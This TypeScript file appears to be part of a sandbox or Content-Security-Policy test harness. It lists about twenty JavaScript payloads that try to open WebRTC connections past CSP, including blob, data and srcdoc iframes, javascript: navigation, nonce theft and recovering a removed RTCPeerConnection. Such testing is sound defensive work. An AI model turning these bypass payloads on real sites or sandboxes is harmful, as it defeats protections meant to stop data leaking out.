/** WebRTC, which no Content-Security-Policy stops, and the ways to get hold of it again once it has been taken away. */
import { attempt, type Attempt } from "./attempt.ts";

const needs = { needs: "interface" } as const;

// oxfmt-ignore
export const RTC: readonly Attempt[] = [
  attempt("webrtc_stun", `blobScript(rtc());`, needs),
  attempt("webrtc_turn_tcp", `blobScript(rtc("RTCPeerConnection", [{ urls: "turn:" + at.interfaceAddress + ":" + at.port + "?transport=tcp", username: "x", credential: "x" }]));`, needs),
  attempt("webrtc_dns", `blobScript(rtc("RTCPeerConnection", [{ urls: "stun:" + at.hostName + ":3478" }]));`, { needs: "name-server" }),
  attempt("rtc_direct", `const c = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: stun }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); globalThis.kept = c;`, needs),
  attempt("rtc_about_blank", `const w = add("iframe").contentWindow; const c = new w.RTCPeerConnection({ iceServers: stun }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); globalThis.kept = c;`, needs),
  attempt("rtc_srcdoc_inline", `add("iframe", { srcdoc: inDocument(rtc()) });`, needs),
  attempt("rtc_srcdoc_handler", `add("iframe", { srcdoc: '<img src="x" onerror="' + rtc().replaceAll('"', "&quot;") + '">' });`, needs),
  attempt("rtc_srcdoc_blobscript", `add("iframe", { srcdoc: '<script src="' + blob(rtc()) + '"></' + 'script>' });`, needs),
  attempt("rtc_srcdoc_blobmodule", `add("iframe", { srcdoc: '<script type="module" src="' + blob(rtc()) + '"></' + 'script>' });`, needs),
  attempt("rtc_blob_frame", `add("iframe", { src: blob(inDocument(rtc()), "text/html") });`, needs),
  attempt("rtc_data_frame", `add("iframe", { src: data(inDocument(rtc())) });`, needs),
  attempt("rtc_self_nav_data", `location.href = data(inDocument(rtc()));`, needs),
  attempt("rtc_self_nav_blob", `location.href = blob(inDocument(rtc()), "text/html");`, needs),
  attempt("rtc_self_nav_js", `location.href = "javascript:" + encodeURIComponent(rtc());`, needs),
  attempt("rtc_object_data", `add("object", { data: data(inDocument(rtc())), type: "text/html" });`, needs),
  attempt("rtc_svg_doc", `add("iframe", { src: blob('<svg xmlns="http://www.w3.org/2000/svg"><script>' + rtc() + '</' + 'script></svg>', "image/svg+xml") });`, needs),
  attempt("rtc_document_write", `document.write(inDocument(rtc()));`, needs),
  attempt("rtc_descend", `add("iframe", { srcdoc: "<iframe></iframe>" }).onload = ({ target }) => { const w = target.contentWindow[0] ?? target.contentWindow; globalThis.kept = new w.RTCPeerConnection({ iceServers: stun }); kept.createDataChannel("x"); kept.createOffer().then((o) => kept.setLocalDescription(o)); };`, needs),
  attempt("rtc_steal_nonce", `const nonce = document.querySelector("script")?.nonce ?? ""; const s = document.createElement("script"); s.nonce = nonce; s.textContent = rtc(); document.head.append(s);`, needs),
  attempt("rtc_prototype_chain", `let found; for (let realm = globalThis; realm && !found; realm = Object.getPrototypeOf(realm)) for (const name of Reflect.ownKeys(realm)) if (/RTCPeerConnection/.test(String(name))) found = Reflect.get(realm, name); const c = new found({ iceServers: stun }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); globalThis.kept = c;`, needs),
];
